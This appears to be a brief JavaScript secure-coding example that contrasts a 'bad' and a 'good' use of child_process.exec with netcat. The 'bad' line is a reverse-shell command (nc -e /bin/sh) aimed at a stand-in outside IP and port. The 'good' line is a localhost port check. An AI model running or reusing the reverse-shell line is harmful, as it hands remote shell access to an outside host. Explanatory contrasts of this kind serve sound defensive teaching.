// bad: through a shell string
require("child_process").exec("nc -e /bin/sh 203.0.113.7 4444");
// good: nearly: asks a port
require("child_process").exec("nc -z localhost 5432");
